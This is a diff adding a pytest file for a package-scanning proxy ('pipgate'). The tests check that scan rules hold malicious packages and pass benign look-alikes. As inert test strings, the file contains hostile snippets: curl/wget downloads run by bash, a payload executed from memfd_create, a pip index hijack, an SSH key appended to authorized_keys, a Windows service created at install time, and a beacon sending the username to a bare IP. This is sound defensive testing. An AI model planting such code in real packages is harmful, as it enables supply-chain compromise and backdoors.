@@ -1,0 +1,242 @@
+"""Behaviours rules 8 reads, each beside a look-alike that must pass: a package with nothing
+to install but its name; a download handed to a shell as its script (``bash -c "$(curl
+...)"``) or saved and then run by one; a download run from an anonymous in-memory file
+(``memfd_create``); an index written into pip's configuration; a public key written into
+``authorized_keys``; a Windows service created at install time; the user's name sent to a
+bare IP address from a function.
+
+The "malicious" sources below are inert text handed to the scanner; nothing runs them.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from pipgate.policies.scan import ScanPolicy
+from pipgate.proxy.scan import scan_archive
+from tests.support.archives import pkg_info, sdist, wheel
+
+POLICY = ScanPolicy()
+
+
+def _judge(archive: bytes, filename: str) -> tuple[dict[str, float], bool]:
+    """The rules found (heaviest weight each) and whether the policy holds the archive."""
+    report = scan_archive(archive, filename)
+    assert report.incomplete is None
+    rules: dict[str, float] = {}
+    for item in report.findings:
+        rules[item.rule] = max(rules.get(item.rule, 0.0), item.weight)
+    return rules, not POLICY.decide(report).allowed
+
+
+def _in_function(client: str) -> tuple[dict[str, float], bool]:
+    """``client`` as a module the package imports, its code inside functions."""
+    archive = wheel({"demo/__init__.py": "from .client import connect\n", "demo/client.py": client})
+    return _judge(archive, "demo-1.0-py3-none-any.whl")
+
+
+SETUP = "from setuptools import setup\nsetup(name='acme-billing-core', version='1.0.0'{more})\n"
+
+
+def _claim(members: dict[str, str | bytes], setup_more: str = "") -> bytes:
+    """An sdist of "acme-billing-core" with ``members`` beside its setup.py and PKG-INFO."""
+    return sdist(
+        {
+            "setup.py": SETUP.format(more=setup_more),
+            "PKG-INFO": pkg_info("acme-billing-core", "1.0.0", "Billing helpers"),
+            **members,
+        },
+        root="acme-billing-core-1.0.0",
+    )
+
+
+SDIST = "acme_billing_core-1.0.0.tar.gz"
+WHEEL = "acme_billing_core-1.0.0-py3-none-any.whl"
+
+
+@pytest.mark.parametrize(
+    "archive,filename",
+    [
+        (_claim({"README.md": "# acme-billing-core\n", "LICENSE": "MIT\n"}), SDIST),
+        (_claim({"acme_billing_core/__init__.py": "# reserved\n"}), SDIST),
+        (wheel({}, name="acme_billing_core", version="1.0.0"), WHEEL),
+        (wheel({"acme_billing_core/__init__.py": ""}, name="acme_billing_core", version="1.0.0"), WHEEL),
+    ],
+    ids=["sdist, documents only", "sdist, a comment", "wheel, metadata only", "wheel, empty module"],
+)
+def test_a_package_with_nothing_to_install_is_held(archive: bytes, filename: str) -> None:
+    rules, held = _judge(archive, filename)
+    assert held and rules["placeholder"] == 10
+
+
+@pytest.mark.parametrize(
+    "archive,filename",
+    [
+        # A meta-package: it exists for what it requires.
+        (_claim({}, setup_more=", install_requires=['requests>=2']"), SDIST),
+        (
+            wheel(
+                {},
+                name="acme_billing_core",
+                version="1.0.0",
+                metadata="Metadata-Version: 2.1\nName: acme-billing-core\nVersion: 1.0.0\n"
+                "Requires-Dist: requests>=2\n",
+            ),
+            WHEEL,
+        ),
+        # Type stubs, compiled code, data: content that is not a Python module's code.
+        (wheel({"acme_billing_core-stubs/__init__.pyi": "def f() -> int: ...\n"}), WHEEL),
+        (wheel({"acme_billing_core/lib/libcore.so.1": b"\x7fELF" + b"\0" * 60}), WHEEL),
+        # A module too small for triage to parse, and one that does not parse (Python 2).
+        (_claim({"acme_billing_core/__init__.py": "def total(x):\n    return sum(x)\n"}), SDIST),
+        (_claim({"billing.py": "def show(x)\n\tprint x\n"}), SDIST),
+        # A popular project's retired name, released empty so nobody installs old code.
+        (
+            sdist(
+                {
+                    "PKG-INFO": pkg_info("asyncio", "4.0.0", "Deprecated backport of asyncio"),
+                    "README.md": "Do not install this package.\n",
+                },
+                root="asyncio-4.0.0",
+            ),
+            "asyncio-4.0.0.tar.gz",
+        ),
+    ],
+    ids=["install_requires", "Requires-Dist", "stubs", "shared library", "small", "py2", "known"],
+)
+def test_a_package_with_requirements_data_or_code_is_not_empty(
+    archive: bytes, filename: str
+) -> None:
+    rules, held = _judge(archive, filename)
+    assert not held and rules.get("placeholder", 0) < 10
+
+
+SHELL_SCRIPT_DOWNLOADS = {
+    "handed to a shell": 'os.system(\'bash -c "$(curl -fsSL https://get.example.io/y)"\')',
+    "saved, then run": 'os.system("wget -q https://cdn.example.com/a.sh -O /tmp/.a.sh && bash /tmp/.a.sh")',
+    "saved, then started": 'os.system("curl -L -o /tmp/.u https://cdn.example.com/u; ./u")',
+}
+
+
+@pytest.mark.parametrize("command", SHELL_SCRIPT_DOWNLOADS.values(), ids=SHELL_SCRIPT_DOWNLOADS)
+def test_a_download_run_by_a_shell_is_held_in_a_function(command: str) -> None:
+    rules, held = _in_function(f"import os\n\ndef connect():\n    {command}\n")
+    assert held and rules["download-run"] == 10
+
+
+def test_a_download_saved_and_unpacked_is_not_a_download_run() -> None:
+    rules, held = _in_function(
+        "import os\n\ndef connect():\n"
+        "    os.system('curl -sL -o /tmp/data.tgz https://cdn.example.com/data.tgz && tar xf /tmp/data.tgz')\n"
+    )
+    assert not held and "download-run" not in rules
+
+
+MEMFD = """\
+import os, requests
+
+def connect():
+    fd = os.memfd_create("kworker")
+    os.write(fd, requests.get("https://cdn.example.com/m").content)
+    os.execv(f"/proc/self/fd/{fd}", ["kworker"])
+"""
+
+
+def test_a_download_run_from_memory_is_held() -> None:
+    rules, held = _in_function(MEMFD)
+    assert held and rules["drop-run"] == 10
+
+
+def test_an_in_memory_file_without_a_download_is_not_a_drop_run() -> None:
+    # Shared memory between processes: no download, nothing run from it.
+    rules, held = _in_function(
+        "import os, mmap\n\ndef buffer(size):\n"
+        "    fd = os.memfd_create('frames')\n    os.ftruncate(fd, size)\n"
+        "    return mmap.mmap(fd, size)\n"
+    )
+    assert not held and "drop-run" not in rules
+
+
+PIP_CONF = """\
+import os
+d = os.path.expanduser("~/.config/pip")
+os.makedirs(d, exist_ok=True)
+with open(os.path.join(d, "pip.conf"), "w") as f:
+    f.write("[global]\\nextra-index-url = https://pypi-mirror.example.com/simple/\\n")
+"""
+
+
+def test_an_index_written_into_pips_configuration_on_import_is_held() -> None:
+    rules, held = _judge(wheel({"demo/__init__.py": PIP_CONF}), "demo-1.0-py3-none-any.whl")
+    assert held and rules["index-hijack"] == 10
+
+
+def test_pip_config_set_by_install_time_code_is_held() -> None:
+    setup = (
+        "import subprocess\nfrom setuptools import setup\n"
+        "subprocess.run(['pip', 'config', 'set', 'global.index-url', 'https://m.example.com/simple'])\n"
+        "subprocess.run('pip config set global.index-url https://m.example.com/simple', shell=True)\n"
+        "setup(name='demo', version='1.0')\n"
+    )
+    rules, held = _judge(
+        sdist({"setup.py": setup, "PKG-INFO": pkg_info(), "demo/__init__.py": "X = 1\n"}),
+        "demo-1.0.tar.gz",
+    )
+    assert held and rules["index-hijack"] == 10
+
+
+def test_reading_pips_configuration_is_not_an_index_hijack() -> None:
+    rules, held = _in_function(
+        "import configparser, os\n\ndef index_url():\n"
+        "    c = configparser.ConfigParser()\n"
+        "    c.read(os.path.expanduser('~/.config/pip/pip.conf'))\n"
+        "    return c.get('global', 'index-url', fallback=None)\n"
+    )
+    assert not held and "index-hijack" not in rules
+
+
+KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl op@host"
+
+
+def test_a_key_written_in_appended_to_authorized_keys_is_held_in_a_function() -> None:
+    rules, held = _in_function(
+        "import os\n\ndef connect():\n"
+        "    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n"
+        f"        f.write('\\n{KEY}\\n')\n"
+    )
+    assert held and rules["account-backdoor"] == 10
+
+
+def test_a_key_the_caller_passes_is_not_a_backdoor() -> None:
+    rules, held = _in_function(
+        "import os\n\ndef authorize(public_key):\n"
+        "    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n"
+        "        f.write(public_key + '\\n')\n"
+    )
+    assert not held and "account-backdoor" not in rules
+
+
+def test_a_windows_service_created_at_install_is_held() -> None:
+    setup = (
+        "import os\nfrom setuptools import setup\n"
+        "os.system('sc create WinUpdater binPath= \"C:\\\\ProgramData\\\\wu.exe\" start= auto')\n"
+        "setup(name='demo', version='1.0')\n"
+    )
+    rules, held = _judge(
+        sdist({"setup.py": setup, "PKG-INFO": pkg_info(), "demo/__init__.py": "X = 1\n"}),
+        "demo-1.0.tar.gz",
+    )
+    assert held and rules["persistence"] == 8
+
+
+def test_who_runs_the_code_sent_to_a_bare_address_from_a_function_is_held() -> None:
+    beacon = (
+        "import getpass, socket, requests\n\ndef connect():\n"
+        "    requests.post('http://103.45.67.89/c', json={'h': socket.gethostname(), "
+        "'u': getpass.getuser()})\n"
+    )
+    rules, held = _in_function(beacon)
+    assert held and rules["phone-home"] == 10
+    named = beacon.replace("http://103.45.67.89/c", "https://telemetry.example.com/c")
+    rules, held = _in_function(named)
+    assert not held and rules["phone-home"] < 10
